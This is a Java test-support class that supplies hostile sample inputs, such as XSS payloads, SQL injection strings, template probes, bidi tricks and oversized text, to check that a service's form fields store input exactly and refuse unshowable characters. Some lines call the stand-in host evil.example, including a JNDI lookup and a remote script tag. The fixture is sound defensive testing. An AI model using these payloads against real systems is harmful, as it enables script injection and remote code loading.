package com.dateline.support;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Predicate;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.params.provider.Arguments;

/**
 * Generated input that every form field and every service entry point must survive: what is {@link Kind#ORDINARY}
 * is stored exactly and shown as text; what is {@link Kind#BLANK}, {@link Kind#UNSHOWABLE} or {@link Kind#HUGE} is
 * refused with a message. Nothing may end in an exception page or a half-written record. Use the streams below with
 * {@code @MethodSource("com.dateline.support.HostileInput#everything")} and friends. {@link #commentTexts()} are the
 * longer attacks a comment must take whole.
 */
public final class HostileInput {

    /** What a field is expected to do with a sample. */
    public enum Kind {
        /** Nothing visible: refused as missing. */
        BLANK,
        /** Markup, SQL, right-to-left overrides, emoji sequences, format strings: stored exactly, shown as text. */
        ORDINARY,
        /** Ordinary, with line breaks and tabs: stored exactly by multi-line fields, refused by one-line fields. */
        MULTILINE,
        /** NUL, control characters, lone surrogates, non-characters: refused, naming the character. */
        UNSHOWABLE,
        /** A megabyte: refused as too long. */
        HUGE
    }

    /** One sample: a short name for test reports, the text, and what a field should do with it. */
    public record Sample(String name, String text, Kind kind) {

        public int codePoints() {
            return text.codePointCount(0, text.length());
        }

        @Override
        public String toString() {
            return name;
        }
    }

    public static final int MEGABYTE = 1 << 20;

    private static final List<Sample> SAMPLES = samples();

    private HostileInput() {}

    private static List<Sample> samples() {
        var all = new ArrayList<Sample>();
        blank(all, "empty", "");
        blank(all, "spaces", "     ");
        blank(all, "tabs and line breaks", " \t\r\n \n");
        blank(all, "no-break, em and ideographic spaces", "\u00A0\u2003\u3000\u00A0");
        blank(all, "zero-width space and joiners", "\u200B\u200C\u200D\uFEFF");

        ordinary(all, "script tag", "<script>alert('x')</script>");
        ordinary(all, "image with onerror", "<img src=x onerror=alert(1)>");
        ordinary(all, "attribute breakout", "\"><svg onload=alert(1)>");
        ordinary(all, "html entities", "&lt;b&gt;&amp;&#x3C;i&#x3E;");
        ordinary(all, "html comment and cdata", "<!-- x --><![CDATA[ y ]]>");
        ordinary(all, "sql drop table", "Robert'); DROP TABLE account;--");
        ordinary(all, "sql always true", "1' OR '1'='1");
        ordinary(all, "sql like wildcards", "100% _sure_ \\ back\\slash");
        ordinary(all, "format strings and lookups", "%s %n %x {0} ${jndi:ldap://evil.example/a} {{7*7}}");
        ordinary(all, "quotes and backslashes", "\"quoted\" 'single' `back` \\\" \\n");
        ordinary(all, "percent-encoded controls", "%00%0d%0a%2e%2e%2f");
        ordinary(all, "right-to-left override", "invoice\u202Etxt.exe");
        ordinary(all, "bidi isolates and marks", "\u2067abc\u2069 \u200Fmark\u200E \u202Bembed\u202C");
        ordinary(all, "arabic", "مرحبا بكم في بيروت");
        ordinary(all, "hebrew with latin", "שלום world עולם");
        ordinary(all, "zwj family", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66");
        ordinary(all, "flags", "\uD83C\uDDF1\uD83C\uDDE7\uD83C\uDDEE\uD83C\uDDF7\uD83C\uDDEE\uD83C\uDDF6");
        ordinary(all, "skin tones", "\uD83D\uDC4D\uD83C\uDFFD\uD83D\uDC4B\uD83C\uDFFF");
        ordinary(all, "combining marks", "Z\u0334\u0321a\u0337l\u0336g\u0335o\u0338");
        ordinary(all, "astral cjk", "\uD840\uDF0E\uD840\uDF31 漢字");
        ordinary(all, "fullwidth", "\uFF26\uFF55\uFF4C\uFF4C\uFF57\uFF49\uFF44\uFF54\uFF48");
        ordinary(all, "line and paragraph separators", "one\u2028two\u2029three");
        ordinary(all, "words null and undefined", "null undefined NaN");
        ordinary(all, "leading and trailing spaces", "  padded  ");
        ordinary(all, "private use", "\uE000\uF8FF");

        multiLine(all, "line breaks and tabs", "line one\nline two\r\n\ttabbed");
        multiLine(
                all,
                "forged log line",
                "innocent\r\n2026-01-01T00:00:00Z  INFO 1 --- [main] dateline.security : sign-in account=1");

        unshowable(all, "nul alone", "\u0000");
        unshowable(all, "nul inside", "before\u0000after");
        unshowable(all, "bell", "ring\u0007ring");
        unshowable(all, "ansi escape", "\u001B[31mred\u001B[0m");
        unshowable(all, "delete", "del\u007F");
        unshowable(all, "c1 next line", "next\u0085line");
        unshowable(all, "c1 control sequence introducer", "csi\u009B2J");
        unshowable(all, "lone high surrogate", "half \uD83D emoji");
        unshowable(all, "lone low surrogate", "\uDC4D alone");
        unshowable(all, "surrogates in the wrong order", "\uDC4D\uD83D");
        unshowable(all, "non-character FFFF", "end\uFFFF");
        unshowable(all, "non-character FFFE", "\uFFFEstart");
        unshowable(all, "non-character FDD0", "mid\uFDD0dle");

        all.add(new Sample("1 MB of letters", "a".repeat(MEGABYTE), Kind.HUGE));
        all.add(new Sample("1 MB of markup", "<b>".repeat(MEGABYTE / 3), Kind.HUGE));
        all.add(new Sample(
                "1 MB of emoji families",
                "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67".repeat(MEGABYTE / 8),
                Kind.HUGE));
        return List.copyOf(all);
    }

    private static void blank(List<Sample> all, String name, String text) {
        all.add(new Sample(name, text, Kind.BLANK));
    }

    private static void ordinary(List<Sample> all, String name, String text) {
        all.add(new Sample(name, text, Kind.ORDINARY));
    }

    private static void multiLine(List<Sample> all, String name, String text) {
        all.add(new Sample(name, text, Kind.MULTILINE));
    }

    private static void unshowable(List<Sample> all, String name, String text) {
        all.add(new Sample(name, text, Kind.UNSHOWABLE));
    }

    /** Every sample. */
    public static List<Sample> samples(Predicate<Sample> which) {
        return SAMPLES.stream().filter(which).toList();
    }

    /** Every sample, as parameterised-test arguments named after the sample. */
    public static Stream<Arguments> everything() {
        return arguments(sample -> true);
    }

    /** Samples a one-line field (a name, a title) must store exactly. */
    public static Stream<Arguments> ordinary() {
        return arguments(sample -> sample.kind() == Kind.ORDINARY);
    }

    /** Samples a multi-line field (a comment, a post's body) must store exactly. */
    public static Stream<Arguments> ordinaryOrMultiLine() {
        return arguments(sample -> sample.kind() == Kind.ORDINARY || sample.kind() == Kind.MULTILINE);
    }

    /** Samples every field must refuse because of a character no page can show. */
    public static Stream<Arguments> unshowable() {
        return arguments(sample -> sample.kind() == Kind.UNSHOWABLE);
    }

    /** Samples that show nothing. */
    public static Stream<Arguments> blank() {
        return arguments(sample -> sample.kind() == Kind.BLANK);
    }

    /** Samples of a megabyte. */
    public static Stream<Arguments> huge() {
        return arguments(sample -> sample.kind() == Kind.HUGE);
    }

    private static Stream<Arguments> arguments(Predicate<Sample> which) {
        return SAMPLES.stream().filter(which).map(sample -> Arguments.of(Named.of(sample.name(), sample)));
    }

    /** A single line without spaces, 4,900 characters of markup fragments. */
    private static String longLineWithoutSpaces() {
        var fragment = "<svg/onload=alert(1)>&lt;script&gt;<img/src=x/onerror=alert(2)>javascript:alert(3)";
        var line = new StringBuilder();
        while (line.length() < 4_900) {
            line.append(fragment);
        }
        return line.substring(0, 4_900);
    }

    /**
     * Comment texts that try to run script, break out of the markup, smuggle a dangerous link or confuse the reader's
     * eye. None contains a banned word (they must be publishable), and none is longer than 5,000 characters or blank:
     * every one is a comment the service has to take, store exactly and show as text.
     */
    public static List<String> commentTexts() {
        var strings = new ArrayList<>(List.of(
                // script tags, plain and disguised
                "<script>alert(1)</script>",
                "<ScRiPt>alert(document.cookie)</sCrIpT>",
                "<script src=\"https://evil.example/x.js\"></script>",
                "<<script>script>alert(1)<</script>/script>",
                "</p><script>alert('breaking out of the paragraph')</script><p>",
                "\"><script>alert(1)</script>",
                "'\"><img src=x onerror=alert(1)//",
                "<textarea></textarea><script>alert(1)</script>",
                // event handlers and other active elements
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://example.org/x.png\" onerror=\"alert(1)\">",
                "<body onload=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<a href=\"https://example.org\" onclick=\"alert(1)\">looks fine</a>",
                "<details open ontoggle=alert(1)>",
                // dangerous links
                "<a href=\"javascript:alert(1)\">click me</a>",
                "javascript:alert(document.domain)",
                "JaVaScRiPt:alert(1) and java\tscript:alert(2)",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "http://example.org/\"onmouseover=\"alert(1)",
                "https://example.org/'onmouseover='alert(1)'",
                "www.example.org<script>alert(1)</script>",
                "https://example.org/?q=<script>alert(1)</script>",
                "See https://example.org/a and https://example.org/b\" onclick=\"alert(1)",
                "javascript:https://example.org/alert(1)",
                // encoded variants
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
                "&#60;img src=x onerror=alert(1)&#62;",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
                "＜script＞alert(1)＜/script＞",
                "<!-- a comment --><![CDATA[<script>alert(1)</script>]]>",
                // CSS
                "<div style=\"width: expression(alert(1))\">css</div>",
                "<style>body{background:url(\"javascript:alert(1)\")}</style>",
                // injections aimed at other layers
                "'; DROP TABLE comment; --",
                "1' OR '1'='1",
                "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
                "**bold** _italic_ [link](javascript:alert(1)) ![img](https://example.org/x.png) <b>html</b>",
                // text that confuses the eye
                "Invoice \u202Egnp.exe and \u2066isolated\u2069 text",
                "zero\u200Bwidth\u200Cnon\u200Djoiner\u2060joiner\uFEFFbom",
                "Family: \uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 flags: \uD83C\uDDF1\uD83C\uDDE7\uD83C\uDDEE\uD83C\uDDF7 thumbs \uD83D\uDC4D\uD83C\uDFFD",
                "مرحبا بكم في بيروت <script>alert(1)</script> شكرا",
                "שלום <b>עולם</b> https://example.org/שלום",
                "می\u200Cخواهم بدانم <img src=x onerror=alert(1)>",
                "  <script>alert('padded')</script>\n\n  ",
                "line one <script>\nalert(1)\n</script> line\r\nthree\ttabbed",
                "&amp;lt;script&amp;gt; double-encoded",
                "https://example.org/" + "a".repeat(4_880),
                longLineWithoutSpaces()));
        return List.copyOf(strings);
    }

    /** {@link #commentTexts()} for parameterised tests: each named by its beginning, so reports stay readable. */
    public static Stream<Arguments> commentTextArguments() {
        return commentTexts().stream().map(text -> Arguments.of(Named.of(label(text), text)));
    }

    private static String label(String text) {
        var shown = text.length() > 60 ? text.substring(0, 60) + "… (" + text.length() + " chars)" : text;
        var printable = new StringBuilder();
        shown.codePoints().forEach(c -> {
            if (Character.isISOControl(c) || Character.getType(c) == Character.FORMAT) {
                printable.append("\\u%04X".formatted(c));
            } else {
                printable.appendCodePoint(c);
            }
        });
        return printable.toString();
    }
}
